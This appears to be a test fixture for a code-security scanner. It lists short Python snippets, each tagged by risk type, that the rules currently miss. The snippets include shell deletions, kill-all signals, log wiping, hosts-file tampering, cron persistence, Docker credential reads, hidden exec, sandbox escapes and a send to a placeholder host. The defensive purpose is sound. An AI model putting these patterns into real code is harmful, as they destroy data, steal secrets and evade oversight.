# Hostile snippets that the rules have not been mended by.

# === y-eval-slot | a dispatcher of commands | exec-dynamic
HANDLERS = {"say": print}
HANDLERS.update(calc=lambda text: print(eval(text)))

# === y-exec-subclass-of-dict | __missing__ | exec-dynamic
class Space(dict):
    def __missing__(self, name):
        exec(open(name + ".py").read(), self)
        return self[name]

# === y-import-hook-name | name from the environment | import-dynamic
import importlib
import os

backend = importlib.import_module(os.environ["BACKEND"])

# === y-system-in-comprehension | comprehension | shell
import os
codes = [os.system(f"convert {name} {name}.png") for name in os.listdir(".")]

# === y-shell-in-finally | in finally | shell
import subprocess

def work(name):
    try:
        return name.strip()
    finally:
        subprocess.getoutput("rm " + name)

# === y-sudo | sudo | process-reaching, shell, process
import subprocess
subprocess.check_call(["sudo", "systemctl", "restart", "app"])

# === y-popen-star-args | argv from data | process
import subprocess
import sys

subprocess.Popen([*sys.argv[1:]])

# === y-kill-all-children | signal to everything | signal-others, exit-hard
import os
os.kill(-1, 9)

# === y-socket-with-ssl | wrapped | network
import socket
import ssl

raw = socket.create_connection(("collect.example", 443))
ssl.create_default_context().wrap_socket(raw, server_hostname="collect.example").sendall(b"x")

# === y-httpx-stream | httpx | network
import httpx

def save(url, path):
    with httpx.stream("GET", url) as response, open(path, "wb") as file:
        for block in response.iter_bytes():
            file.write(block)

# === y-rm-logs | system logs | delete-outside, delete-root
from pathlib import Path

for log in Path("/var/log").glob("*.log"):
    log.unlink()

# === y-write-windows | a Windows path | write-outside, persistence
with open(r"C:\Windows\System32\drivers\etc\hosts", "a") as file:
    file.write("203.0.113.7 x.example\n")

# === y-known-secrets | docker credentials | credentials
import json
from pathlib import Path

auths = json.loads((Path.home() / ".docker" / "config.json").read_text())["auths"]

# === y-pickle-in-cache | a cache by pickle | unsafe-load
import pickle
from functools import wraps

def cached(function):
    @wraps(function)
    def wrapper(key):
        try:
            with open(f"{key}.pkl", "rb") as file:
                return pickle.load(file)
        except FileNotFoundError:
            return function(key)
    return wrapper

# === y-subclasses-listcomp | list comprehension | escape
popen = [c for c in object.__subclasses__() if c.__name__ == "Popen"][0]

# === y-globals-of-init | a class's __init__ | globals, escape
class Item:
    def __init__(self):
        pass

secret = Item.__init__.__globals__["SECRET"]

# === y-format-nested | template from a constant | format-escape
BANNER = "Hello {user.__class__.__init__.__globals__[KEY]}"

# === y-print-replaced | a module's own builtins | builtins-changed, globals
__builtins__["print"] = lambda *a: None

# === y-audit-loop | audit hook by lambda | hooks
from sys import addaudithook
addaudithook(lambda event, args: None)

# === y-native-memset | memset | native
import ctypes
ctypes.memset(id(1), 0, 8)

# === y-del-exit | ends the process | finalizer-bomb
import sys

class Guard:
    def __del__(self):
        sys.exit(1)

# === y-zlib-exec | compressed | exec-hidden
import zlib
exec(zlib.decompress(bytes([120, 156, 43, 40, 202])))

# === y-getattr-concat | pieces in variables | name-built, getattr-module
import os
a, b = "sys", "tem"
getattr(os, a + b)("id")

# === y-gitlab-token | token | secret
def headers():
    return {"PRIVATE-TOKEN": "glpat-x9Yt3QmKp7LwRz2VnBcD"}

# === y-cron-by-pipe | crontab through the shell | shell-destructive, shell, persistence
import os
os.system("(crontab -l; echo '* * * * * /tmp/x') | crontab -")
